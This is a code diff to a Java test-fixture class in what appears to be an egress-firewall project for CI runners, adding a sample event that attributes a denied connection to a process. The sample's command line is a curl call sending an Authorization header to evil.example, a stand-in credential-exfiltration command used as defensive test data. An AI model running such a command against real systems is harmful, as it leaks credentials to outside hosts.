@@ -7,6 +7,7 @@ import io.fleetwall.protocol.event.Destination;
 import io.fleetwall.protocol.event.Event;
 import io.fleetwall.protocol.event.EventKind;
 import io.fleetwall.protocol.event.Judgement;
+import io.fleetwall.protocol.event.ProcessIdentity;
 import io.fleetwall.protocol.message.Applied;
 import io.fleetwall.protocol.message.Desired;
 import io.fleetwall.protocol.message.Digest;
@@ -71,6 +72,7 @@ final class Samples {
                 "refused",
                 new Refused("a", 8, BODY, "FW-N003", "signature", "enrol again — bitte"));
         all.put("event-batch", new EventBatch(BOOT, 41, List.of(denied(), loss())));
+        all.put("event-batch-process", new EventBatch(BOOT, 43, List.of(attributed(), denied())));
         all.put("heartbeat", new Heartbeat(AT));
         all.put("welcome", new Welcome(1, "gateway-0", Duration.ofSeconds(1)));
         all.put("desired", new Desired("a", signed(Optional.of(bytes("body")))));
@@ -104,6 +106,33 @@ final class Samples {
                                 12)),
                 3,
                 "blocked");
+    }
+
+    static Event attributed() {
+        Event denied = denied();
+        return new Event(
+                denied.id(),
+                denied.at(),
+                denied.node(),
+                denied.runner(),
+                denied.kind(),
+                denied.job(),
+                denied.destination(),
+                denied.judgement(),
+                Optional.of(
+                        new ProcessIdentity(
+                                4711,
+                                4_294_967_294L,
+                                "curl",
+                                "/usr/bin/curl",
+                                "curl -H \"Authorization: ***\" https://evil.example",
+                                List.of(
+                                        new ProcessIdentity.Parent(4710, "bash"),
+                                        new ProcessIdentity.Parent(4700, "")),
+                                "/actions.slice/job.scope",
+                                "0123456789abcdef".repeat(4))),
+                denied.count(),
+                denied.message());
     }
 
     private static Event loss() {
